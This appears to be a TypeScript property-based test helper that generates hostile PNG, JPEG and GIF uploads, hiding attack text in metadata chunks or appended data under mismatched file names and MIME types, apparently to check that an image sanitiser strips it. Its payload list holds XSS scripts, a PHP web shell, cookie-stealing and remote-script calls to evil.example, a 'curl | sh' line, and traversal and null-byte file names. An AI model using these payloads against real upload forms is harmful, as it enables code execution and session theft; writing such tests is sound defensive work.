import { crc32, deflateSync } from 'node:zlib'
import fc from 'fast-check'
import { aJpeg, anAnimation, aPng } from './images.ts'

/** Payloads that an attacker would want to survive; each is longer than 16 bytes and followed by its own text. */
const PAYLOADS = [
  '<script>alert(document.domain)</script>',
  '<?php system($_GET["cmd"]); __halt_compiler(); ?>',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
  '<html><body onload=fetch("//evil.example/"+document.cookie)>',
  'PK\u0003\u0004META-INF/MANIFEST.MF Main-Class: Evil',
  '*/=1;import("//evil.example/x.js");/*',
  '#!/bin/sh\ncurl evil.example/x | sh\n',
  '<%@ page import="java.util.*" %><% Runtime.getRuntime() %>',
  '51 deg 30\' 26.46" N, 0 deg 7\' 39.93" W Ada Example',
]

const payload = fc
  .tuple(fc.constantFrom(...PAYLOADS), fc.stringMatching(/^[\w ./<>=-]{8,40}$/))
  .map(([known, own]) => known + own)

export const pngChunk = (type: string, data: Buffer): Buffer => {
  const body = Buffer.concat([Buffer.from(type), data])
  const chunk = Buffer.alloc(body.length + 8)
  chunk.writeUInt32BE(data.length)
  body.copy(chunk, 4)
  chunk.writeUInt32BE(crc32(body), body.length + 4)
  return chunk
}

type Change = (file: Buffer, text: Buffer, at: number) => Buffer

const insert = (file: Buffer, at: number, piece: Buffer) =>
  Buffer.concat([file.subarray(0, at), piece, file.subarray(at)])

const jpegSegment =
  (marker: number, head: string): Change =>
  (file, text) => {
    const body = Buffer.concat([Buffer.from(head, 'latin1'), text]).subarray(0, 65_000)
    const start = Buffer.from([0xff, marker, 0, 0])
    start.writeUInt16BE(body.length + 2, 2)
    return insert(file, 2, Buffer.concat([start, body]))
  }

const textChunk =
  (type: string, head: string, isDeflated = false): Change =>
  (file, text) =>
    insert(
      file,
      33,
      pngChunk(type, Buffer.concat([Buffer.from(head, 'latin1'), isDeflated ? deflateSync(text) : text])),
    )

const gifExtension =
  (label: number, head: string): Change =>
  (file, text) => {
    const blocks: Buffer[] = [Buffer.from([0x21, label]), Buffer.from(head, 'latin1')]
    for (let from = 0; from < text.length; from += 255) {
      const block = text.subarray(from, from + 255)
      blocks.push(Buffer.from([block.length]), block)
    }
    const flags = file[10] ?? 0
    return insert(
      file,
      13 + (flags & 0x80 ? 3 * 2 ** ((flags & 7) + 1) : 0),
      Buffer.concat([...blocks, Buffer.from([0])]),
    )
  }

/** Repeats the text until a chunk is hundreds of kilobytes long. */
const giant =
  (change: Change): Change =>
  (file, text, at) =>
    change(file, Buffer.concat(Array.from({ length: Math.ceil(300_000 / text.length) }, () => text)), at)

const overwrite: Change = (file, text, at) => {
  const copy = Buffer.from(file)
  text.copy(copy, at)
  return copy
}

const ANYWHERE: Record<string, Change> = {
  'text behind it': (file, text) => Buffer.concat([file, text]),
  'much text behind it': giant((file, text) => Buffer.concat([file, text])),
  'an archive behind it': (file, text) => Buffer.concat([file, Buffer.from('PK\u0003\u0004\u0014\0'), text]),
  'text somewhere in it': (file, text, at) => insert(file, at, text),
  'text over a part of it': overwrite,
  'cut off, then text': (file, text, at) => Buffer.concat([file.subarray(0, at), text]),
  'text before it': (file, text) => Buffer.concat([text, file]),
  'only its first bytes': (file, text) => Buffer.concat([file.subarray(0, 8), text]),
  'a single bit turned, text behind it': (file, text, at) => {
    const copy = Buffer.from(file)
    copy[at] = (copy[at] ?? 0) ^ (1 << (at % 8))
    return Buffer.concat([copy, text])
  },
  'no image at all': (_file, text) => text,
}

const OF_TYPE: Record<'png' | 'jpeg' | 'gif', Record<string, Change>> = {
  png: {
    'a tEXt chunk': textChunk('tEXt', 'Comment\0'),
    'a giant tEXt chunk': giant(textChunk('tEXt', 'Comment\0')),
    'a zTXt chunk': textChunk('zTXt', 'Comment\0\0', true),
    'an iTXt chunk of XMP': textChunk('iTXt', 'XML:com.adobe.xmp\0\0\0\0\0'),
    'an eXIf chunk': textChunk('eXIf', 'MM\0*\0\0\0\b\0\0'),
    'an iCCP chunk': textChunk('iCCP', 'profile\0\0', true),
    'a private chunk': textChunk('prVt', ''),
  },
  jpeg: {
    'a comment': jpegSegment(0xfe, ''),
    EXIF: jpegSegment(0xe1, 'Exif\0\0MM\0*\0\0\0\b\0\0'),
    XMP: jpegSegment(0xe1, 'http://ns.adobe.com/xap/1.0/\0'),
    'an ICC profile': jpegSegment(0xe2, 'ICC_PROFILE\0\u0001\u0001'),
    IPTC: jpegSegment(0xed, 'Photoshop 3.0\x008BIM'),
    'a giant segment': giant(jpegSegment(0xec, '')),
  },
  gif: {
    'a comment': gifExtension(0xfe, ''),
    'a giant comment': giant(gifExtension(0xfe, '')),
    XMP: gifExtension(0xff, '\u000bXMP DataXMP'),
    'an application’s block': gifExtension(0xff, '\u000bEVILAPP_1.0'),
    'a text to be drawn': gifExtension(0x01, `\u000c${'\0'.repeat(12)}`),
  },
}

export type HostileFile = { kind: string; text: string; make: () => Promise<Buffer>; name: string; type: string }

const bases = {
  png: () => aPng({ width: 60, height: 40 }),
  jpeg: () => aJpeg({ width: 60, height: 40 }),
  gif: () => anAnimation(3, 40),
}

/** Generates images with text in places where none belongs, under mismatching names and types. */
export const hostileFile: fc.Arbitrary<HostileFile> = fc
  .record({
    base: fc.constantFrom('png' as const, 'jpeg' as const, 'gif' as const),
    pick: fc.nat(),
    text: payload,
    place: fc.double({ min: 0, max: 1, noNaN: true }),
    name: fc.constantFrom(
      'a.png',
      'a.gif',
      'a.jpg',
      'a.svg',
      'a.php',
      'a.html',
      'a.php.jpg',
      '../a.png',
      'a.png\0.html',
    ),
    type: fc.constantFrom('image/png', 'image/gif', 'image/jpeg', 'image/svg+xml', 'text/html', 'application/zip'),
  })
  .map(({ base, pick, text, place, name, type }) => {
    const changes = Object.entries({ ...ANYWHERE, ...OF_TYPE[base] })
    const bytes = Buffer.from(text, 'latin1')
    const [kind, change] = changes[pick % changes.length] as [string, Change]
    const make = async () => {
      const file = await bases[base]()
      return change(file, bytes, Math.floor(place * file.length))
    }
    return { kind: `${base}: ${kind}`, text, make, name, type }
  })
